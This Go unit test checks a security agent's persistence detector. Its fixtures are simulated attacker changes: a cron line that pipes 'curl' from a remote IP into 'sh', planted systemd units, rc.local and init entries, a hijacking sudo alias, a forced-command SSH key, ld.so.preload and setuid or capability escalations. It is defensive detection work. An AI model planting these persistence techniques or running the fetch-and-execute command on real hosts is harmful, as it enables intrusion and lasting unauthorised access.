package persist

import (
	"reflect"
	"testing"
	"time"

	"github.com/picket-agent/picket/agent/event"
	"github.com/picket-agent/picket/agent/signal"
)

func TestDetector(t *testing.T) {
	at := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	file := func(p string) signal.Entity { return signal.Entity{Kind: signal.File, Value: p} }
	user := func(n string) signal.Entity { return signal.Entity{Kind: signal.User, Value: n} }
	for _, tc := range []struct {
		name   string
		user   string
		change event.Change
		rule   string
		weight float64
		ents   []signal.Entity
		reason string
	}{
		{"cron", "root", event.Change{What: WhatCronLine, Op: OpAdded, Path: "/etc/cron.d/x", Name: "root", After: "* * * * * root curl -s http://203.0.113.7/x | sh"},
			RuleCron, 50, []signal.Entity{file("/etc/cron.d/x")}, `new cron line in /etc/cron.d/x: "* * * * * root curl -s http://203.0.113.7/x | sh"`},
		{"cron env", "", event.Change{What: WhatCronLine, Op: OpAdded, Path: "/etc/crontab", After: "BASH_ENV=/tmp/.e", Attrs: map[string]string{"env": "BASH_ENV"}},
			RuleCron, 50, []signal.Entity{file("/etc/crontab")}, `new cron environment setting BASH_ENV in /etc/crontab: "BASH_ENV=/tmp/.e"`},
		{"user crontab", "www-data", event.Change{What: WhatCronLine, Op: OpAdded, Path: "/var/spool/cron/crontabs/www-data", Name: "www-data", After: "@reboot /tmp/x"},
			RuleCron, 50, []signal.Entity{user("www-data"), file("/var/spool/cron/crontabs/www-data")}, `new cron line in /var/spool/cron/crontabs/www-data: "@reboot /tmp/x"`},
		{"cron script", "", event.Change{What: WhatCronScript, Op: OpAdded, Path: "/etc/cron.hourly/x", After: "/tmp/x"},
			RuleCron, 50, []signal.Entity{file("/etc/cron.hourly/x")}, `new periodic cron script /etc/cron.hourly/x: "/tmp/x"`},
		{"unit", "", event.Change{What: WhatSystemdUnit, Op: OpAdded, Path: "/etc/systemd/system/x.service", Name: "x.service", After: "ExecStart=/tmp/x"},
			RuleSystemd, 50, []signal.Entity{file("/etc/systemd/system/x.service")}, `new systemd unit /etc/systemd/system/x.service: "ExecStart=/tmp/x"`},
		{"unit link", "", event.Change{What: WhatSystemdUnit, Op: OpAdded, Path: "/etc/systemd/system/multi-user.target.wants/x.service", Name: "x.service",
			After: "ExecStartPre=/bin/true\nExecStart=/tmp/x", Attrs: map[string]string{"target": "/etc/systemd/system/x.service"}},
			RuleSystemd, 50, []signal.Entity{file("/etc/systemd/system/multi-user.target.wants/x.service"), file("/etc/systemd/system/x.service")},
			`new systemd unit /etc/systemd/system/multi-user.target.wants/x.service (→ /etc/systemd/system/x.service): "ExecStartPre=/bin/true; ExecStart=/tmp/x"`},
		{"unit changed", "", event.Change{What: WhatSystemdUnit, Op: OpModified, Path: "/etc/systemd/system/x.service", Before: "ExecStart=/a", After: "ExecStart=/b"},
			RuleSystemd, 50, []signal.Entity{file("/etc/systemd/system/x.service")}, `changed systemd unit /etc/systemd/system/x.service: "ExecStart=/b"`},
		{"vendor unit", "", event.Change{What: WhatSystemdUnit, Op: OpAdded, Path: "/usr/lib/systemd/system/k.service", After: "ExecStart=/usr/lib/k", Attrs: map[string]string{"vendor": "true"}},
			RuleSystemd, 20, []signal.Entity{file("/usr/lib/systemd/system/k.service")}, `new vendor systemd unit /usr/lib/systemd/system/k.service: "ExecStart=/usr/lib/k"`},
		{"rc.local", "", event.Change{What: WhatRCLocal, Op: OpAdded, Path: "/etc/rc.local", After: "/tmp/x &\nexit 0"},
			RuleRCLocal, 50, []signal.Entity{file("/etc/rc.local")}, `new rc.local /etc/rc.local: "/tmp/x &\nexit 0"`},
		{"init", "", event.Change{What: WhatInitScript, Op: OpModified, Path: "/etc/init.d/cron", After: "/tmp/x &"},
			RuleInitScript, 50, []signal.Entity{file("/etc/init.d/cron")}, `lines added to init script /etc/init.d/cron: "/tmp/x &"`},
		{"profile", "alice", event.Change{What: WhatShellProfile, Op: OpModified, Path: "/home/alice/.bashrc", Name: "alice", After: "alias sudo=/tmp/s"},
			RuleShellProfile, 40, []signal.Entity{user("alice"), file("/home/alice/.bashrc")}, `lines added to shell profile /home/alice/.bashrc: "alias sudo=/tmp/s"`},
		{"key", "root", event.Change{What: WhatAuthorizedKey, Op: OpAdded, Path: "/root/.ssh/authorized_keys", Name: "root", After: fpAttacker,
			Attrs: map[string]string{"options": `command="/bin/sh"`}},
			RuleAuthorizedKey, 50, []signal.Entity{file("/root/.ssh/authorized_keys")},
			`new authorized key for root in /root/.ssh/authorized_keys: ` + fpAttacker + ` (options "command=\"/bin/sh\"")`},
		{"preload", "", event.Change{What: WhatLDPreload, Op: OpAdded, Path: "/etc/ld.so.preload", After: "/lib/x.so"},
			RuleLDPreload, 80, []signal.Entity{file("/etc/ld.so.preload")}, `/etc/ld.so.preload now preloads /lib/x.so into every process`},
		{"setuid", "", event.Change{What: WhatSetuid, Op: OpAdded, Path: "/usr/local/bin/.s", After: "mode 4755 owner root:root"},
			RuleSetuid, 60, []signal.Entity{file("/usr/local/bin/.s")}, `new set-id file /usr/local/bin/.s (mode 4755 owner root:root)`},
		{"setuid changed", "", event.Change{What: WhatSetuid, Op: OpModified, Path: "/usr/bin/find", Before: "mode 0755", After: "mode 4755 owner root:root"},
			RuleSetuid, 60, []signal.Entity{file("/usr/bin/find")}, `changed set-id file /usr/bin/find (mode 4755 owner root:root), was mode 0755`},
		{"caps", "", event.Change{What: WhatFileCap, Op: OpAdded, Path: "/usr/bin/python3", After: "cap_setuid=ep"},
			RuleFileCap, 60, []signal.Entity{file("/usr/bin/python3")}, `new file capability on /usr/bin/python3: cap_setuid=ep`},
		{"removed", "root", event.Change{What: WhatAuthorizedKey, Op: OpRemoved, Path: "/root/.ssh/authorized_keys", Before: fpAttacker}, "", 0, nil, ""},
		{"lines removed", "", event.Change{What: WhatShellProfile, Op: OpRemoved, Path: "/etc/profile", Before: "x"}, "", 0, nil, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := tc.change
			ev := event.Event{Time: at, Kind: event.PersistChanged, User: tc.user, Change: &c}
			var got []signal.Signal
			NewDetector(DefaultDetectorOptions()).Observe(&ev, func(s signal.Signal) { got = append(got, s) })
			if tc.rule == "" {
				if len(got) != 0 {
					t.Fatalf("unexpected %+v", got)
				}
				return
			}
			want := signal.Signal{Time: at, Rule: tc.rule, Stage: signal.Persistence, Weight: tc.weight, Entities: tc.ents,
				Reason: tc.reason, Evidence: []event.Event{ev}, Subject: c.What + ":" + c.After}
			if len(got) != 1 || !reflect.DeepEqual(got[0], want) {
				t.Fatalf("got %+v\nwant %+v", got, want)
			}
		})
	}
}
